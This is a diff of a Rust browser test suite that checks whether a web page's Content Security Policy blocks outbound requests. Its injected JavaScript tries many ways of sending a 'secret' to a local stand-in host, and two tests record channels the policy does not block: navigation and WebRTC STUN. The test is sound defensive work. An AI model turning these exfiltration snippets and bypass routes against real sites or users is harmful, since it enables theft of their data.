@@ -1,16 +1,16 @@
-//! "The page has no way to send anything": the browser itself holds it to that, whatever its code may do.
+//! What the page's policy makes the browser refuse, whatever the page's code may do, and what it doesn't cover.
 //!
-//! Every visit checks that the page asked for nothing but its own files. Here code is put into it that tries, and a listener
-//! on another port waits for what gets out.
+//! Every visit checks that the page requested nothing but its own files. Here code is put into the page that tries to send
+//! something. README.md claims what these tests show.
 
-use std::io::Read;
-use std::net::{SocketAddr, TcpListener};
-use std::time::Duration;
+use std::collections::BTreeMap;
+use std::net::UdpSocket;
 
 use anyhow::{Context, Result, ensure};
 use serde_json::{Value, json};
 
-use crate::server::is_built_from;
+use crate::browser::named;
+use crate::server::{Answered, Server, is_built_from};
 use crate::visit::{Visit, visit};
 
 #[test]
@@ -40,96 +40,165 @@ fn the_page_names_its_policy_before_anything_it_loads() -> Result<()> {
 }
 
 #[test]
-fn the_browser_lets_the_page_send_nothing() -> Result<()> {
-    let outside = Outside::new()?;
-    Visit::default().tolerating(outside.place()).run(|page| {
+fn the_browser_refuses_every_request_of_the_page_to_another_host() -> Result<()> {
+    let outside = another_host()?;
+    Visit::default().tolerating(outside.host()).run(|page| {
         page.open()?;
-        let script = "
-            const url = arguments[0];
-            const refused = window.refused = [];
-            addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
-            const attempts = [
-                () => fetch(url),
-                () => navigator.sendBeacon(url, 'secret'),
-                () => new WebSocket(url.replace('http', 'ws')),
-                () => new EventSource(url),
-                () => { new Image().src = url; },
-                () => document.head.append(Object.assign(document.createElement('script'), { src: url })),
-                () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })),
-                () => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
-                () => {
-                    const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
-                    document.body.append(form);
-                    form.submit();
-                },
-            ];
-            for (const attempt of attempts) {
-                try { Promise.resolve(attempt()).catch(() => {}); } catch { /* refused at once */ }
-            }
-            ";
-        page.browser.run(script, json!([outside.url()]))?;
-        let kinds = ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"];
+        page.browser.run(ATTEMPTS, json!([outside.origin()]))?;
+        // Each kind as often as it is tried.
+        let kinds = [
+            ("connect-src", 5),
+            ("default-src", 1),
+            ("font-src", 1),
+            ("form-action", 1),
+            ("frame-src", 1),
+            ("img-src", 2),
+            ("media-src", 2),
+            ("object-src", 2),
+            ("script-src-elem", 3),
+            ("style-src-elem", 1),
+        ];
         let mut refused = Value::Null;
-        let waited = page.wait_for("every kind of request to be refused", || {
+        let waited = page.wait_for("every request to be refused", || {
             refused = page.browser.run("return window.refused", json!([]))?;
-            let is_refused = |kind: &&str| refused.as_array().is_some_and(|refused| refused.iter().any(|one| one == kind));
-            Ok(kinds.iter().all(is_refused))
+            let n_refused = |kind: &str| refused.as_array().into_iter().flatten().filter(|one| *one == kind).count();
+            Ok(kinds.iter().all(|(kind, n)| n_refused(kind) >= *n))
         });
         waited.with_context(|| format!("refused were only {refused}"))?;
-        outside.heard_nothing()
+        ensure!(outside.answered().is_empty(), "this got out: {:?}", outside.answered());
+        Ok(())
+    })
+}
+
+/// Tries to send something to the host in `arguments[0]` in every way but navigation.
+const ATTEMPTS: &str = "
+    const url = `${arguments[0]}/secret`;
+    const refused = window.refused = [];
+    addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+    const add = (name, properties) => {
+        const element = Object.assign(document.createElement(name), properties);
+        document.body.append(element);
+        return element;
+    };
+    const post = () => {
+        const request = new XMLHttpRequest();
+        request.open('POST', url);
+        request.send('secret');
+    };
+    const attempts = [
+        () => fetch(url, { method: 'POST', body: 'secret' }),
+        () => navigator.sendBeacon(url, 'secret'),
+        () => new WebSocket(url.replace('http', 'ws')),
+        () => new EventSource(url),
+        post,
+        () => import(url),
+        () => { new Image().src = url; },
+        () => { document.body.style.backgroundImage = `url(${url})`; },
+        () => new FontFace('secret', `url(${url})`).load(),
+        () => add('script', { src: url }),
+        () => add('link', { rel: 'modulepreload', href: url }),
+        () => add('link', { rel: 'stylesheet', href: url }),
+        () => add('link', { rel: 'prefetch', href: url }),
+        () => add('iframe', { src: url }),
+        () => add('object', { data: url }),
+        () => add('embed', { src: url }),
+        () => add('video', { src: url }),
+        () => add('audio', { src: url }),
+        () => new Worker(url),
+        () => navigator.serviceWorker.register(url),
+        () => add('form', { action: url, method: 'post' }).submit(),
+    ];
+    for (const attempt of attempts) {
+        try { Promise.resolve(attempt()).catch(() => {}); } catch { /* refused at once */ }
+    }";
+
+#[test]
+fn the_browser_refuses_requests_of_the_worker_to_another_host() -> Result<()> {
+    let outside = another_host()?;
+    let origin = outside.origin();
+    let attempt = format!("fetch('{origin}/secret', {{ method: 'POST', body: 'secret' }}).catch(() => {{}});\n");
+    let visit = Visit::default().served(move |name, bytes| {
+        let more = if is_built_from(name, "worker-boot", ".js") { attempt.as_bytes() } else { b"" };
+        Some([more, &bytes[..]].concat())
+    });
+    visit.tolerating(&origin).run(|page| {
+        page.open()?;
+        page.wait_for("the browser to refuse the worker", || {
+            Ok(page.browser.console()?.iter().any(|line| line.message.contains(&origin)))
+        })?;
+        ensure!(outside.answered().is_empty(), "this got out: {:?}", outside.answered());
+        Ok(())
     })
 }
 
 #[test]
-fn the_browser_lets_the_worker_send_nothing() -> Result<()> {
-    let outside = Outside::new()?;
-    let attempt = format!("fetch('{}').catch(() => {{}});\n", outside.url()).into_bytes();
-    let visit = Visit::default().served(move |name, bytes| {
-        let more: &[u8] = if is_built_from(name, "worker-boot", ".js") { &attempt } else { b"" };
-        Some([more, &bytes[..]].concat())
-    });
-    visit.tolerating(outside.place()).run(|page| {
+fn of_requests_to_the_pages_own_host_the_policy_covers_only_forms() -> Result<()> {
+    Visit::default().tolerating("404").tolerating("form-action").run_with_server(|page, server| {
         page.open()?;
-        let place = outside.place();
-        page.wait_for("the browser to refuse the worker", || {
-            Ok(page.browser.console()?.iter().any(|line| line.message.contains(&place)))
+        let form = "
+            const form = Object.assign(document.createElement('form'), { action: 'form', method: 'post' });
+            addEventListener('securitypolicyviolation', (event) => { window.refused = event.effectiveDirective; });
+            document.body.append(form);
+            form.submit()";
+        page.browser.run(form, json!([]))?;
+        page.wait_for("the form to be refused", || {
+            Ok(page.browser.run("return window.refused", json!([]))? == "form-action")
         })?;
-        outside.heard_nothing()
+        let others = "
+            navigator.sendBeacon('beacon', 'secret');
+            return fetch('fetch', { method: 'POST', body: 'secret' }).then(() => null)";
+        page.browser.run(others, json!([]))?;
+        let sent = || -> Vec<Answered> {
+            server.answered().into_iter().filter(|answered| answered.method == "POST").collect()
+        };
+        page.wait_for("both to arrive", || Ok(sent().len() == 2))?;
+        let sent = sent();
+        ensure!(sent.iter().all(|answered| answered.body == "secret"), "{sent:?}");
+        ensure!(!sent.iter().any(|answered| answered.path.ends_with("/form")), "{sent:?}");
+        server.take_answered();
+        Ok(())
     })
 }
 
-/// Someone who listens where the page must not speak.
-struct Outside {
-    listener: TcpListener,
-    address: SocketAddr,
-}
-
-impl Outside {
-    fn new() -> Result<Outside> {
-        let listener = TcpListener::bind("127.0.0.1:0")?;
-        listener.set_nonblocking(true)?;
-        let address = listener.local_addr()?;
-        Ok(Outside { listener, address })
-    }
-
-    fn url(&self) -> String {
-        format!("http://{}/", self.address)
-    }
-
-    /// As complaints about an attempt name it.
-    fn place(&self) -> String {
-        self.address.to_string()
-    }
-
-    /// A browser may open a connection before it asks the policy, and then close it unused: only bytes are heard.
-    fn heard_nothing(&self) -> Result<()> {
-        while let Ok((mut connection, _)) = self.listener.accept() {
-            connection.set_nonblocking(false)?;
-            connection.set_read_timeout(Some(Duration::from_millis(500)))?;
-            let mut heard = [0; 200];
-            let length = connection.read(&mut heard).unwrap_or(0);
-            ensure!(length == 0, "this got out: {}", String::from_utf8_lossy(&heard[..length]));
+#[test]
+fn the_policy_does_not_cover_navigation() -> Result<()> {
+    let outside = another_host()?;
+    let origin = outside.origin();
+    Visit::default().tolerating(&origin).expecting_requests_to(&origin).run(|page| {
+        let ways = [
+            ("location", "location.href = arguments[0]"),
+            ("window", "window.open(arguments[0])"),
+            ("link", "Object.assign(document.createElement('a'), { href: arguments[0] }).click()"),
+        ];
+        for (name, script) in ways {
+            page.open()?;
+            page.browser.run(script, json!([format!("{origin}/{name}?secret")]))?;
+            let path = format!("/{name}");
+            page.wait_for(&format!("the {name} to arrive"), || {
+                Ok(outside.answered().iter().any(|one| one.path == path && one.query == "secret"))
+            })?;
         }
         Ok(())
-    }
+    })
+}
+
+/// Records what it is asked for, and has nothing.
+fn another_host() -> Result<Server> {
+    Server::start(&named("CAMLSCOPE_DIST")?, Box::new(|_, _| None), BTreeMap::new())
+}
+
+#[test]
+fn the_policy_does_not_cover_webrtc() -> Result<()> {
+    let outside = UdpSocket::bind("127.0.0.1:0")?;
+    let address = outside.local_addr()?;
+    visit(|page| {
+        page.open()?;
+        let script = "
+            const connection = new RTCPeerConnection({ iceServers: [{ urls: arguments[0] }] });
+            connection.createDataChannel('secret');
+            connection.createOffer().then((offer) => connection.setLocalDescription(offer))";
+        page.browser.run(script, json!([format!("stun:{address}")]))?;
+        outside.set_nonblocking(true)?;
+        page.wait_for("a packet", || Ok(outside.recv(&mut [0; 100]).is_ok()))
+    })
 }
